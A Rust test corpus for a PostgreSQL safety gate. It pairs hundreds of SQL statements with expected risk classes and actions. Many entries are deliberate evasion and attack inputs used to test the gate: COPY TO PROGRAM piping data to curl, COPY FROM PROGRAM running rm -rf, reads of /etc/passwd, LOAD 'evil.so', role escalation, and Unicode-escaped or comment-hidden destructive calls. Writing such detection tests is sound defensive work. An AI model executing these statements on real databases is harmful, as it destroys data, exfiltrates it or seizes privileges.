//! The bypass corpus shared by `bypass.rs` (exact verdicts) and `props.rs` (mutations and
//! concatenations): `(sql, expected class, expected action)` under the default policy.

#![allow(dead_code)]

use guard::{Action, Class};

#[derive(Debug, Clone, Copy, PartialEq)]
pub enum V {
    Allow,
    /// RowGuard with the default 1000 rows.
    Guard,
    Approve,
    Deny,
}
use Class::{Ddl, Destructive as Destr, Read, Write};
use V::{Allow, Approve, Deny, Guard as Rows};

pub fn matches(a: &Action, v: V) -> bool {
    match (a, v) {
        (Action::Allow, V::Allow) | (Action::Approve, V::Approve) | (Action::Deny, V::Deny) => true,
        (Action::RowGuard { max_rows }, V::Guard) => *max_rows == 1000,
        _ => false,
    }
}

/// Single messages, each checked in a fresh session.
pub const CASES: &[(&str, Class, V)] = &[
    // ---- plain reads and writes that must keep flowing
    ("SELECT 1", Read, Allow),
    ("select * from orders where merchant_id = 42", Read, Allow),
    ("SELECT count(*), max(created_at) FROM orders GROUP BY merchant_id HAVING count(*) > 1", Read, Allow),
    (
        "SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id ORDER BY 1 LIMIT 10",
        Read,
        Allow,
    ),
    ("SELECT lower(name), upper(name), length(name), now() FROM customers", Read, Allow),
    ("SELECT pg_catalog.lower('X')", Read, Allow),
    ("SELECT * FROM generate_series(1, 10) g", Read, Allow),
    ("VALUES (1), (2)", Read, Allow),
    ("TABLE orders", Read, Allow),
    ("SELECT 1 UNION ALL SELECT 2 EXCEPT SELECT 3", Read, Allow),
    ("SELECT abalance FROM pgbench_accounts WHERE aid = $1", Read, Allow),
    ("SELECT CASE WHEN x > 0 THEN 'a' ELSE 'b' END, COALESCE(y, 0), GREATEST(1, 2) FROM t", Read, Allow),
    ("SELECT CURRENT_USER, CURRENT_TIMESTAMP, SESSION_USER", Read, Allow),
    ("SELECT jsonb_build_object('a', 1) -> 'a', '{1,2}'::int[] @> ARRAY[1]", Read, Allow),
    ("SELECT x FROM t WHERE name LIKE 'a%' AND id BETWEEN 1 AND 5 AND tag IN ('a', 'b')", Read, Allow),
    ("SELECT * FROM orders WHERE id IN (SELECT order_id FROM order_items WHERE qty > 3)", Read, Allow),
    (
        "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
        Read,
        Allow,
    ),
    ("SELECT row_number() OVER (PARTITION BY merchant_id ORDER BY id) FROM orders", Read, Allow),
    ("INSERT INTO orders (merchant_id, total) VALUES (1, 100)", Write, Rows),
    (
        "INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES ($1, $2, $3, $4, CURRENT_TIMESTAMP)",
        Write,
        Rows,
    ),
    ("INSERT INTO archive SELECT * FROM orders WHERE created_at < '2020-01-01'", Write, Rows),
    ("INSERT INTO t (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET n = t.n + 1", Write, Rows),
    ("INSERT INTO t (id) VALUES (1) ON CONFLICT DO NOTHING RETURNING id", Write, Rows),
    ("SELECT nextval('orders_id_seq')", Write, Rows),
    ("SELECT * FROM orders WHERE id = 1 FOR UPDATE", Write, Rows),
    // ---- DELETE / UPDATE with a real WHERE: the row guard counts them
    ("DELETE FROM orders WHERE id = 7", Write, Rows),
    ("delete from ORDERS where ID = 7", Write, Rows),
    ("UPDATE pgbench_accounts SET abalance = abalance + $1 WHERE aid = $2", Write, Rows),
    ("UPDATE stored_value_cards SET balance = 0 WHERE merchant_id = 42", Write, Rows),
    ("DELETE FROM orders WHERE created_at < now() - interval '1 year'", Write, Rows),
    ("DELETE FROM orders o USING merchants m WHERE o.merchant_id = m.id AND m.closed", Write, Rows),
    ("UPDATE orders SET total = 0 FROM merchants WHERE orders.merchant_id = merchants.id", Write, Rows),
    ("DELETE FROM orders WHERE id = $1", Write, Rows),
    ("DELETE FROM sessions WHERE expired_at IS NOT NULL", Write, Rows), // depends on the data: the row guard counts
    ("DELETE FROM t WHERE id = 1 OR id = 2", Write, Rows),
    ("DELETE FROM t WHERE id = id AND merchant_id = 3", Write, Rows), // the AND keeps it bounded
    ("DELETE FROM t WHERE CURRENT OF c", Write, Rows),
    ("DELETE FROM orders WHERE id = 7 RETURNING *", Write, Rows),
    (
        "WITH old AS (SELECT id FROM orders WHERE created_at < '2020-01-01') DELETE FROM orders WHERE id IN (SELECT id FROM old)",
        Write,
        Rows,
    ),
    (
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)",
        Write,
        Rows,
    ),
    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.v)", Write, Rows), // inserts only
    // ---- DELETE / UPDATE that hit every row
    ("DELETE FROM orders", Destr, Approve),
    ("delete from public.orders", Destr, Approve),
    ("DELETE FROM ONLY orders", Destr, Approve),
    ("UPDATE stored_value_cards SET balance = 0", Destr, Approve),
    ("DELETE FROM orders WHERE true", Destr, Approve),
    ("DELETE FROM orders WHERE 1=1", Destr, Approve),
    ("DELETE FROM orders WHERE 'a'='a'", Destr, Approve),
    ("DELETE FROM orders WHERE id = id", Destr, Approve), // true for every row with an id
    ("DELETE FROM orders WHERE orders.id = id", Destr, Approve),
    ("DELETE FROM orders o WHERE o.id = id", Destr, Approve),
    ("DELETE FROM orders WHERE id >= id", Destr, Approve),
    ("DELETE FROM orders WHERE id IS NOT DISTINCT FROM id", Destr, Approve),
    ("DELETE FROM orders WHERE id = 7 OR true", Destr, Approve),
    ("DELETE FROM orders WHERE id = 7 OR 1 = 1", Destr, Approve),
    ("DELETE FROM orders WHERE NOT false", Destr, Approve),
    ("DELETE FROM orders WHERE 't'::boolean", Destr, Approve),
    ("DELETE FROM orders WHERE now() > '2000-01-01'", Destr, Approve), // no column: same for every row
    ("DELETE FROM orders WHERE random() < 2", Destr, Approve),
    ("DELETE FROM orders WHERE $1", Destr, Approve), // a bare parameter decides for every row
    ("DELETE FROM orders WHERE id = 7 OR $1", Destr, Approve),
    ("DELETE FROM orders WHERE EXISTS (SELECT 1)", Destr, Approve),
    ("DELETE FROM orders WHERE (id = id) IS TRUE", Destr, Approve),
    ("DELETE FROM customers WHERE name LIKE '%'", Destr, Approve),
    ("UPDATE t SET a = 1 WHERE 2 > 1", Destr, Approve),
    ("UPDATE t SET a = 1 WHERE id = id OR a = 5", Destr, Approve),
    ("DELETE /* just one row, promise */ FROM orders -- WHERE id = 7", Destr, Approve),
    ("DELETE FROM orders WHERE /* id = 7 */ true", Destr, Approve),
    ("MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE", Destr, Approve),
    // ---- TRUNCATE and DROP in every spelling
    ("TRUNCATE orders", Destr, Approve),
    ("TRUNCATE TABLE orders", Destr, Approve),
    ("TRUNCATE ONLY orders", Destr, Approve),
    ("TRUNCATE a, b CASCADE", Destr, Approve),
    ("TRUNCATE orders RESTART IDENTITY", Destr, Approve),
    ("truncate \"Orders\"", Destr, Approve),
    ("DROP TABLE orders", Destr, Approve),
    ("DROP TABLE IF EXISTS orders, customers CASCADE", Destr, Approve),
    ("drop table public.orders", Destr, Approve),
    ("DrOp TaBlE orders", Destr, Approve),
    ("DROP DATABASE shop", Destr, Approve),
    ("DROP DATABASE shop WITH (FORCE)", Destr, Approve),
    ("DROP SCHEMA public CASCADE", Destr, Approve),
    ("DROP VIEW v", Destr, Approve),
    ("DROP MATERIALIZED VIEW mv", Destr, Approve),
    ("DROP INDEX CONCURRENTLY orders_pkey", Destr, Approve),
    ("DROP SEQUENCE s", Destr, Approve),
    ("DROP FUNCTION f(int)", Destr, Approve),
    ("DROP TRIGGER audit ON orders", Destr, Approve),
    ("DROP EXTENSION pgaudit", Destr, Approve),
    ("DROP TYPE mood", Destr, Approve),
    ("DROP POLICY p ON orders", Destr, Approve),
    ("DROP PUBLICATION pub", Destr, Approve),
    ("DROP SUBSCRIPTION sub", Destr, Approve),
    ("DROP TABLESPACE ts", Destr, Approve),
    ("DROP OWNED BY alice", Destr, Approve),
    ("DROP OWNED BY alice CASCADE", Destr, Approve),
    ("REASSIGN OWNED BY alice TO bob", Destr, Approve),
    ("DROP ROLE alice", Destr, Approve),
    ("DROP USER IF EXISTS alice", Destr, Approve),
    ("DROP USER MAPPING FOR alice SERVER s", Destr, Approve),
    // ---- ALTER TABLE
    ("ALTER TABLE orders DROP COLUMN total", Destr, Approve),
    ("ALTER TABLE orders DROP total", Destr, Approve),
    ("ALTER TABLE orders ADD COLUMN note text, DROP COLUMN total", Destr, Approve),
    ("ALTER TABLE orders ALTER COLUMN total TYPE int USING NULL", Destr, Approve), // rewrite can destroy values
    ("ALTER TABLE orders ALTER COLUMN total TYPE numeric", Destr, Approve),
    ("ALTER TABLE orders SET UNLOGGED", Destr, Approve), // its changes would bypass the WAL and the vault
    ("ALTER TABLE orders DISABLE TRIGGER ALL", Destr, Approve),
    ("ALTER TABLE orders DISABLE TRIGGER audit", Destr, Approve),
    ("ALTER TABLE orders DISABLE ROW LEVEL SECURITY", Destr, Approve),
    ("ALTER TABLE orders OWNER TO mallory", Destr, Approve),
    ("ALTER TABLE orders ADD COLUMN note text", Ddl, Rows),
    ("ALTER TABLE orders ADD CONSTRAINT positive CHECK (total >= 0)", Ddl, Rows),
    ("ALTER TABLE orders ALTER COLUMN note SET DEFAULT ''", Ddl, Rows),
    ("ALTER TABLE orders RENAME TO orders_old", Ddl, Rows), // data intact, renaming back undoes it
    ("ALTER TABLE orders RENAME COLUMN total TO amount", Ddl, Rows),
    ("ALTER TABLE orders DROP CONSTRAINT positive", Ddl, Rows), // no row is lost
    ("ALTER TABLE orders ADD COLUMN x int DEFAULT pg_terminate_backend(1)::int", Destr, Approve),
    ("ALTER INDEX orders_pkey RENAME TO orders_pk", Ddl, Rows),
    // ---- DDL that destroys nothing
    ("CREATE TABLE t (id int PRIMARY KEY, v text)", Ddl, Rows),
    ("CREATE UNLOGGED TABLE scratch (id int)", Ddl, Rows),
    ("CREATE INDEX CONCURRENTLY ON orders (merchant_id)", Destr, Approve), // event triggers, index expressions: cannot be measured,
    ("CREATE VIEW v AS SELECT id FROM orders", Ddl, Rows),
    ("CREATE TABLE copy AS SELECT * FROM orders", Ddl, Rows),
    ("SELECT * INTO backup_orders FROM orders", Ddl, Rows),
    ("CREATE MATERIALIZED VIEW mv AS SELECT count(*) FROM orders", Ddl, Rows),
    ("CREATE SCHEMA reporting", Ddl, Rows),
    ("CREATE SEQUENCE s", Ddl, Rows),
    ("CREATE TYPE mood AS ENUM ('ok', 'sad')", Ddl, Rows),
    ("COMMENT ON TABLE orders IS 'orders'", Ddl, Rows),
    ("CREATE ROLE analyst NOLOGIN", Ddl, Rows),
    ("CREATE DATABASE scratch", Ddl, Allow),
    ("CREATE POLICY p ON orders USING (merchant_id = 1)", Ddl, Rows),
    ("VACUUM FULL orders", Destr, Approve), // rebuilds indexes (their expressions run): cannot be measured
    ("CLUSTER orders USING orders_pkey", Ddl, Rows),
    ("REINDEX TABLE orders", Ddl, Rows),
    // ---- DDL that hides code or writes
    ("CREATE TABLE t (id int DEFAULT pg_terminate_backend(1)::int)", Destr, Approve),
    ("CREATE VIEW v AS SELECT pg_terminate_backend(pid) FROM pg_stat_activity", Destr, Approve), // runs whenever v is read
    ("CREATE TABLE t AS WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", Destr, Approve),
    ("CREATE RULE r AS ON INSERT TO t DO ALSO DELETE FROM orders", Destr, Approve),
    ("CREATE TRIGGER tr BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()", Destr, Approve),
    ("CREATE EVENT TRIGGER et ON ddl_command_start EXECUTE FUNCTION f()", Destr, Approve),
    ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM orders'", Destr, Approve),
    ("CREATE OR REPLACE FUNCTION lower(text) RETURNS text LANGUAGE sql AS $$ SELECT $1 $$", Destr, Approve),
    ("CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", Destr, Approve),
    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC SELECT 1; END", Destr, Approve),
    ("ALTER FUNCTION f() SECURITY DEFINER", Destr, Approve),
    ("CREATE OPERATOR === (LEFTARG = text, RIGHTARG = text, FUNCTION = dblink_exec)", Destr, Approve),
    ("CREATE AGGREGATE agg(int) (SFUNC = f, STYPE = int)", Destr, Approve),
    ("CREATE CAST (text AS int) WITH FUNCTION f(text)", Destr, Approve),
    ("CREATE EXTENSION dblink", Destr, Approve),
    ("ALTER EXTENSION dblink UPDATE", Destr, Approve),
    ("CREATE LANGUAGE plperlu", Destr, Approve),
    ("LOAD 'evil.so'", Destr, Approve),
    ("CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p", Destr, Approve),
    ("CREATE ROLE boss SUPERUSER LOGIN", Destr, Approve),
    ("CREATE ROLE sneaky IN ROLE dba", Destr, Approve), // membership in an existing powerful role
    ("CREATE USER rep REPLICATION", Destr, Approve),
    ("ALTER ROLE alice SUPERUSER", Destr, Approve),
    ("ALTER ROLE alice PASSWORD 'x'", Destr, Approve),
    ("ALTER USER alice SET search_path = evil", Destr, Approve),
    ("ALTER DATABASE shop SET session_replication_role = replica", Destr, Approve),
    ("ALTER DATABASE shop CONNECTION LIMIT 0", Destr, Approve),
    ("GRANT ALL ON orders TO mallory", Destr, Approve),
    ("GRANT dba TO mallory", Destr, Approve),
    ("REVOKE SELECT ON orders FROM app", Destr, Approve),
    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO mallory", Destr, Approve),
    ("ALTER SCHEMA public OWNER TO mallory", Destr, Approve),
    // ---- server-level
    ("ALTER SYSTEM SET wal_level = minimal", Destr, Approve),
    ("alter system reset all", Destr, Approve),
    ("DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$", Destr, Approve),
    ("DO 'BEGIN NULL; END'", Destr, Approve), // even empty: the body is code
    ("DO $x$ BEGIN PERFORM 1; END $x$ LANGUAGE plpgsql", Destr, Approve),
    ("COPY orders TO PROGRAM 'curl -T - http://x'", Destr, Approve),
    ("COPY orders FROM PROGRAM 'rm -rf /var/lib/postgresql'", Destr, Approve),
    ("COPY orders TO '/tmp/orders.csv'", Destr, Approve),
    ("COPY orders FROM '/etc/passwd'", Destr, Approve),
    ("COPY (SELECT * FROM orders) TO '/var/lib/postgresql/15/main/postgresql.auto.conf'", Destr, Approve),
    ("COPY (DELETE FROM orders RETURNING *) TO STDOUT", Destr, Approve),
    ("COPY orders TO STDOUT", Read, Allow),
    ("COPY orders (id, total) TO STDOUT WITH (FORMAT csv)", Read, Allow),
    ("COPY (SELECT * FROM orders WHERE id < 10) TO STDOUT", Read, Allow),
    // measured: the table's triggers, rules and defaults may change other rows
    ("COPY orders FROM STDIN", Write, Rows),
    ("COPY orders FROM STDIN WHERE app_check(id)", Write, Rows),
    // …but FREEZE (`pgbench -i`) needs the table created or truncated in the current
    // subtransaction, which the gate's savepoint never is: it cannot be measured, so it is held
    ("COPY orders FROM STDIN WITH (FREEZE ON)", Destr, Approve),
    ("COPY orders FROM STDIN WITH (FREEZE)", Destr, Approve),
    ("COPY orders FROM STDIN FREEZE", Destr, Approve),
    ("COPY orders FROM STDIN WITH (FORMAT csv, FREEZE true)", Destr, Approve),
    ("COPY orders FROM STDIN WITH (FREEZE OFF)", Write, Rows),
    ("CHECKPOINT", Write, Allow),
    // ---- functions in every position
    ("SELECT pg_terminate_backend(1234)", Destr, Approve),
    ("SELECT pg_catalog.pg_terminate_backend(1234)", Destr, Approve),
    ("SELECT PG_TERMINATE_BACKEND(1234)", Destr, Approve),
    ("SELECT \"PG_TERMINATE_BACKEND\"(1234)", Destr, Approve), // another name to PostgreSQL; refused anyway
    ("SELECT \"pg_terminate_backend\"(1234)", Destr, Approve),
    ("SELECT U&\"pg_termin\\0061te_backend\"(1234)", Destr, Approve), // Unicode escape in the name
    ("SELECT U&\"!0070g_terminate_backend\" UESCAPE '!' (1234)", Destr, Approve),
    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'", Destr, Approve),
    ("SELECT * FROM orders WHERE pg_terminate_backend(1) IS NOT NULL", Destr, Approve),
    ("SELECT (SELECT pg_terminate_backend(1))", Destr, Approve),
    ("VALUES (pg_terminate_backend(1))", Destr, Approve),
    ("WITH k AS (SELECT pg_terminate_backend(1)) SELECT 1", Destr, Approve),
    ("SELECT * FROM pg_terminate_backend(1)", Destr, Approve),
    ("SELECT * FROM ROWS FROM (pg_terminate_backend(1))", Destr, Approve),
    ("SELECT count(*) FILTER (WHERE pg_terminate_backend(1)) FROM t", Destr, Approve),
    ("SELECT 1 ORDER BY pg_terminate_backend(1)", Destr, Approve),
    ("SELECT CASE WHEN false THEN pg_terminate_backend(1) END", Destr, Approve),
    ("SELECT ARRAY[pg_terminate_backend(1)]", Destr, Approve),
    ("SELECT pg_terminate_backend(x) FROM (VALUES (1)) v(x) LIMIT 0", Destr, Approve),
    ("INSERT INTO t VALUES (pg_terminate_backend(1))", Destr, Approve),
    ("UPDATE t SET a = pg_cancel_backend(1) WHERE id = 1", Destr, Approve),
    ("SELECT pg_cancel_backend(1)", Destr, Approve),
    ("SELECT pg_drop_replication_slot('holdfast_main')", Destr, Approve),
    ("SELECT pg_replication_slot_advance('holdfast_main', '0/FFFFFFFF')", Destr, Approve),
    ("SELECT lo_unlink(12345)", Destr, Approve),
    ("SELECT lo_import('/etc/passwd')", Destr, Approve),
    ("SELECT dblink_exec('host=localhost', 'DROP TABLE orders')", Destr, Approve),
    ("SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)", Destr, Approve),
    ("SELECT public.dblink_exec('c', 'DROP TABLE orders')", Destr, Approve),
    ("SELECT dblink_connect_u('host=x')", Destr, Approve),
    ("SELECT pg_read_file('/etc/passwd')", Destr, Approve),
    ("SELECT pg_read_binary_file('global/pg_control')", Destr, Approve),
    ("SELECT pg_ls_dir('.')", Destr, Approve),
    ("SELECT pg_reload_conf()", Destr, Approve),
    ("SELECT pg_promote()", Destr, Approve),
    ("SELECT query_to_xml('DELETE FROM orders RETURNING 1', true, true, '')", Destr, Approve), // runs its text
    ("SELECT * FROM ts_stat('DELETE FROM orders RETURNING to_tsvector(''x'')')", Destr, Approve),
    ("CALL pg_terminate_backend(1)", Destr, Approve),
    ("SELECT set_config('role', 'postgres', false)", Destr, Approve),
    ("SELECT set_config('session_authorization', 'postgres', false)", Destr, Approve),
    ("SELECT set_config('ROLE', 'postgres', false)", Destr, Approve),
    ("SELECT pg_catalog.set_config('session_replication_role', 'replica', false)", Destr, Approve),
    ("SELECT set_config(current_setting('x.y'), 'postgres', false)", Destr, Approve), // computed name
    ("SELECT set_config('statement_timeout', '5s', false)", Read, Allow),
    ("SELECT set_config('search_path', 'evil, pg_catalog', false)", Ddl, Rows),
    ("SELECT my_report(42)", Write, Rows), // unknown function: may write (policy unknown_functions)
    ("SELECT public.lower('x')", Write, Rows), // not the built-in
    ("CALL refresh_stats()", Write, Rows),
    ("SELECT 1 === 2", Write, Rows), // a user-defined operator is a function call
    ("SELECT 1 OPERATOR(public.+) 2", Write, Rows),
    ("SELECT 1 OPERATOR(pg_catalog.+) 2", Read, Allow),
    // ---- a function that may write, run where the gate does not measure (the real server's
    // my_report() deletes rows: real_postgres.rs runs every allowed one), or planted where later
    // statements — reads, casts, COPY, ALTER TABLE — run it unmeasured
    ("EXPLAIN ANALYZE SELECT my_report(1)", Destr, Approve),
    ("EXPLAIN (ANALYZE, FORMAT JSON) SELECT * FROM t WHERE my_report(id) > 0", Destr, Approve),
    // Not run, but planned: the planner folds an IMMUTABLE or STABLE function with constant
    // arguments (it ran a deleting one that way through the gate).
    ("EXPLAIN SELECT my_report(1)", Destr, Approve),
    ("EXPLAIN (COSTS OFF) SELECT * FROM t WHERE id = my_report(1)", Destr, Approve),
    ("EXPLAIN SELECT * FROM t WHERE id = 1", Read, Allow),
    ("CREATE TABLE rep AS SELECT my_report(1)", Destr, Approve),
    ("SELECT my_report(1) INTO rep2", Destr, Approve),
    ("CREATE MATERIALIZED VIEW mrep AS SELECT my_report(1)", Destr, Approve),
    ("CREATE VIEW vrep AS SELECT my_report(id) FROM t", Destr, Approve),
    ("CREATE OR REPLACE VIEW vrep AS SELECT id FROM t WHERE 1 === id", Destr, Approve),
    ("CREATE DOMAIN drep AS int CHECK (my_report(VALUE) IS NOT NULL)", Destr, Approve),
    ("ALTER DOMAIN drep ADD CHECK (my_report(VALUE) IS NOT NULL)", Destr, Approve),
    ("ALTER TABLE t ADD COLUMN r int DEFAULT my_report(1)", Destr, Approve),
    ("ALTER TABLE t ALTER COLUMN c SET DEFAULT my_report(1)", Destr, Approve),
    ("ALTER TABLE t ADD CONSTRAINT ck CHECK (my_report(id) IS NOT NULL)", Destr, Approve),
    ("CREATE POLICY prep ON t USING (my_report(id) IS NOT NULL)", Destr, Approve),
    ("CREATE TABLE trep (a int DEFAULT my_report(1))", Destr, Approve),
    ("DECLARE crep CURSOR WITH HOLD FOR SELECT my_report(1)", Destr, Approve), // runs at COMMIT
    ("DECLARE crep CURSOR FOR SELECT my_report(1)", Write, Allow), // runs at FETCH, which is measured
    ("SELECT set_config('search_path', 'public', false), my_report(1)", Destr, Approve),
    ("SELECT my_report(1), set_config('x.y', 'z', false)", Write, Rows),
    ("CREATE TABLE rep3 AS SELECT lower(name) FROM customers", Ddl, Rows),
    ("CREATE VIEW vok AS SELECT nextval('seq_s'), lower(v) FROM s", Ddl, Rows), // built-ins that change no rows
    ("ALTER TABLE t ALTER COLUMN c SET DEFAULT 0", Ddl, Rows),
    // ---- a foreign key whose action changes rows of the altered table in later statements on
    // another table: a hidden write, like a trigger
    (
        "ALTER TABLE t ADD CONSTRAINT fk FOREIGN KEY (merchant_id) REFERENCES merchants ON DELETE CASCADE",
        Destr,
        Approve,
    ),
    (
        "ALTER TABLE t ADD FOREIGN KEY (merchant_id) REFERENCES merchants ON UPDATE SET NULL NOT VALID",
        Destr,
        Approve,
    ),
    (
        "ALTER TABLE t ADD FOREIGN KEY (merchant_id) REFERENCES merchants ON DELETE SET DEFAULT",
        Destr,
        Approve,
    ),
    ("ALTER TABLE t ADD FOREIGN KEY (merchant_id) REFERENCES merchants", Ddl, Rows), // refuses, changes nothing
    ("CREATE TABLE child2 (id int REFERENCES merchants ON DELETE CASCADE)", Ddl, Rows), // only its own rows
    // ---- another table's rows put under this one: later DELETE/TRUNCATE of it reach them
    ("ALTER TABLE a INHERIT b", Destr, Approve),
    ("ALTER TABLE sessions ATTACH PARTITION orders FOR VALUES FROM (1) TO (10)", Destr, Approve),
    ("ALTER TABLE b NO INHERIT a", Ddl, Rows),
    // ---- two-phase commit: another session's prepared work
    ("ROLLBACK PREPARED 'tx-42'", Destr, Approve),
    // ---- what a later call by name runs: a function swapped by RENAME or SET SCHEMA
    ("ALTER FUNCTION purge_all_orders() RENAME TO purge_expired_sessions", Destr, Approve),
    ("ALTER PROCEDURE nightly() SET SCHEMA public", Destr, Approve),
    ("ALTER ROUTINE f(int) RENAME TO g", Destr, Approve),
    ("ALTER AGGREGATE agg(int) RENAME TO total", Destr, Approve),
    ("ALTER OPERATOR public.=== (int, int) SET SCHEMA app", Destr, Approve),
    ("ALTER TABLE a RENAME TO a2", Ddl, Rows),
    ("ALTER TABLE s SET SCHEMA public", Ddl, Rows),
    // ---- misleading a later restore: recovery stops at the first restore point of a name
    ("SELECT pg_create_restore_point('before_migration')", Destr, Approve),
    ("SELECT PG_CATALOG.PG_CREATE_RESTORE_POINT('x')", Destr, Approve),
    ("COMMIT PREPARED 'tx-42'", Write, Allow),
    // ---- writes hidden in CTEs and EXPLAIN
    ("WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d", Destr, Approve),
    ("WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d", Destr, Approve), // count invisible
    ("WITH u AS (UPDATE cards SET balance = 0 RETURNING 1) SELECT count(*) FROM u", Destr, Approve),
    (
        "WITH a AS (SELECT 1), b AS (WITH c AS (DELETE FROM t RETURNING 1) SELECT * FROM c) SELECT * FROM b",
        Destr,
        Approve,
    ),
    ("WITH i AS (INSERT INTO log VALUES (1) RETURNING id) SELECT * FROM i", Write, Rows),
    ("WITH d AS (DELETE FROM orders RETURNING *) INSERT INTO archive SELECT * FROM d", Destr, Approve),
    ("SELECT * FROM (SELECT 1) s, LATERAL (SELECT pg_terminate_backend(1)) k", Destr, Approve),
    ("EXPLAIN ANALYZE DELETE FROM orders", Destr, Approve),
    ("EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1", Destr, Approve),
    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", Destr, Approve),
    ("EXPLAIN (ANALYZE true) DELETE FROM t", Destr, Approve),
    ("EXPLAIN (ANALYZE on) DELETE FROM t", Destr, Approve),
    ("EXPLAIN (ANALYZE 1) DELETE FROM t", Destr, Approve),
    ("EXPLAIN (ANALYZE false) DELETE FROM orders", Read, Allow), // nothing runs
    ("EXPLAIN DELETE FROM orders", Read, Allow),
    ("EXPLAIN (COSTS off) UPDATE orders SET total = 0", Read, Allow),
    ("EXPLAIN SELECT * FROM orders", Read, Allow),
    ("EXPLAIN ANALYZE SELECT * FROM orders", Read, Allow),
    ("EXPLAIN SELECT pg_terminate_backend(1)", Destr, Approve), // the planner may evaluate calls
    ("EXPLAIN ANALYZE CREATE TABLE x AS SELECT 1", Ddl, Rows),
    // ---- identity and settings
    // Lexer-changing settings: afterwards `SELECT 'x\'' ; DROP TABLE t; -- '` is one string with
    // standard_conforming_strings on but a DROP with it off. The guard reads later statements
    // both ways until the server reports the value (and the gate ends such a session); SJIS
    // bytes can swallow a backslash, so leaving UTF-8 is destructive.
    ("SET standard_conforming_strings = off", Write, Allow),
    ("SET standard_conforming_strings TO on", Write, Allow),
    ("SELECT set_config('standard_conforming_strings', 'off', false)", Write, Rows),
    ("SET client_encoding = 'SJIS'", Destr, Approve),
    ("SET NAMES 'SJIS'", Destr, Approve),
    ("SET backslash_quote = on", Write, Allow), // with UTF-8, as safe as the default
    ("SET ROLE postgres", Destr, Approve),
    ("set role \"postgres\"", Destr, Approve),
    ("SET LOCAL ROLE postgres", Destr, Approve),
    ("RESET ROLE", Destr, Approve),
    ("SET ROLE NONE", Destr, Approve),
    ("SET SESSION AUTHORIZATION postgres", Destr, Approve),
    ("SET SESSION AUTHORIZATION DEFAULT", Destr, Approve),
    ("RESET SESSION AUTHORIZATION", Destr, Approve),
    ("SET session_replication_role = replica", Destr, Approve), // triggers and FK checks off
    ("SET log_statement = 'none'", Destr, Approve),             // the database's own witness
    ("SET zero_damaged_pages = on", Destr, Approve),
    ("SET search_path = evil, pg_catalog", Ddl, Allow),
    ("SET search_path TO reporting", Ddl, Allow),
    ("RESET search_path", Ddl, Allow),
    ("RESET ALL", Ddl, Allow),
    ("DISCARD ALL", Ddl, Allow),
    ("SET statement_timeout = '5s'", Read, Allow),
    ("SET application_name = 'psql'", Read, Allow),
    ("SET TIME ZONE 'UTC'", Read, Allow),
    ("set datestyle to iso, mdy", Read, Allow),
    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", Read, Allow),
    ("SET myapp.custom_setting = 'x'", Write, Allow), // unknown setting
    ("SHOW search_path", Read, Allow),
    ("SHOW ALL", Read, Allow),
    // ---- transactions, cursors, notifications, locks
    ("BEGIN", Read, Allow),
    ("BEGIN ISOLATION LEVEL REPEATABLE READ", Read, Allow),
    ("START TRANSACTION READ ONLY", Read, Allow),
    ("COMMIT", Read, Allow),
    ("END", Read, Allow),
    ("ROLLBACK", Read, Allow),
    ("SAVEPOINT s1", Read, Allow),
    ("RELEASE SAVEPOINT s1", Read, Allow),
    ("ROLLBACK TO SAVEPOINT s1", Read, Allow),
    ("PREPARE TRANSACTION 'tx1'", Write, Allow),
    ("COMMIT PREPARED 'tx1'", Write, Allow),
    ("DECLARE c CURSOR FOR SELECT * FROM orders", Read, Allow),
    ("SET track_counts = off", Destr, Approve), // the gate measures writes by these counters
    ("SELECT set_config('track_counts', 'off', true)", Destr, Approve),
    ("DECLARE c CURSOR FOR SELECT 1; FETCH ALL FROM c", Read, Allow),
    ("FETCH ALL FROM c; DELETE FROM orders WHERE id = 1", Write, Rows),
    ("DECLARE c CURSOR FOR SELECT pg_terminate_backend(1)", Destr, Approve),
    ("FETCH 10 FROM c", Write, Rows), // a cursor the gate never saw: counted
    ("CLOSE c", Read, Allow),
    ("LISTEN orders_changed", Read, Allow),
    ("UNLISTEN *", Read, Allow),
    ("NOTIFY orders_changed, 'x'", Write, Allow),
    ("SELECT pg_notify('c', 'x')", Write, Rows),
    ("LOCK TABLE orders IN ACCESS EXCLUSIVE MODE", Write, Allow), // blocks, changes nothing
    ("VACUUM orders", Write, Allow),
    ("ANALYZE orders", Write, Rows), // index and statistics expressions run: measured,
    ("REFRESH MATERIALIZED VIEW mv", Write, Rows), // the view's query runs: measured
    ("REFRESH MATERIALIZED VIEW CONCURRENTLY mv", Write, Rows),
    ("VACUUM ANALYZE orders", Destr, Approve), // cannot be measured: ANALYZE alone is
    ("VACUUM (ANALYZE) orders", Destr, Approve),
    ("VACUUM (VERBOSE, ANALYZE true) orders", Destr, Approve),
    ("VACUUM (ANALYZE false) orders", Write, Allow),
    ("VACUUM", Write, Allow),
    ("REINDEX INDEX orders_pkey", Ddl, Rows),
    ("REINDEX TABLE CONCURRENTLY orders", Destr, Approve),
    ("REINDEX (CONCURRENTLY) INDEX orders_pkey", Destr, Approve),
    ("REINDEX SCHEMA public", Destr, Approve),
    ("REINDEX DATABASE shop", Destr, Approve),
